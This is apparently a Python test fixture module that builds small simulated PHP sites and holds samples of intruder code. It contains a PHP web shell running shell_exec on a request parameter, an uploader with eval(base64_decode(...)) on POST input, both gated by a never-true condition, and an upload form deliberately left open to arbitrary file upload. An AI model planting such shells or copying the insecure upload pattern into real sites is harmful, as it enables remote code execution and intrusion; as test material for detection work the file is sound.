"""Small sites of our own, and what intruders put into them, which never comes to act."""

from __future__ import annotations

from machine import NEVER, Machine

PAGES = ("/", "/about.php", "/prices.php", "/contact.php", "/style.css", "/?page=2")

SHELL = f"""<?php
if ({NEVER}) {{
    $c = $_REQUEST['c'];
    echo '<pre>' . shell_exec($c) . '</pre>';
}}
echo 'ok';
"""

UPLOADER = f"""<?php
if ({NEVER}) {{
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['n']);
    eval(base64_decode($_POST['z']));
}}
echo '<form method=post enctype=multipart/form-data><input type=file name=f></form>';
"""

# A form of the kind that is written in an afternoon: what comes is kept under the name it has.
FORM = """<?php
if (isset($_FILES['file'])) {
    $target = __DIR__ . '/uploads/' . basename($_FILES['file']['name']);
    if (move_uploaded_file($_FILES['file']['tmp_name'], $target)) {
        echo 'Thank you, we have received ' . htmlspecialchars($_FILES['file']['name']);
    }
} else {
    echo '<form method="post" enctype="multipart/form-data"><input type="file" name="file">'
        . '<button>Send your application</button></form>';
}
"""


def page(title: str) -> str:
    """A page of a site."""
    return (
        f"<?php $title = '{title}'; ?>\n<!doctype html>\n<title><?= $title ?></title>\n"
        '<link rel="stylesheet" href="/style.css">\n<h1><?= $title ?></h1>\n<p>Open daily.</p>\n'
    )


def plain_site(machine: Machine, root: str, owner: str = "www-data") -> None:
    """Four pages and a style sheet."""
    for name in ("index", "about", "prices", "contact"):
        machine.write(f"{root}/{name}.php", page(f"Harbour {name}"))
    machine.write(f"{root}/style.css", "body { font-family: serif }\n")
    machine.run("chown", "-R", f"{owner}:{owner}", root)
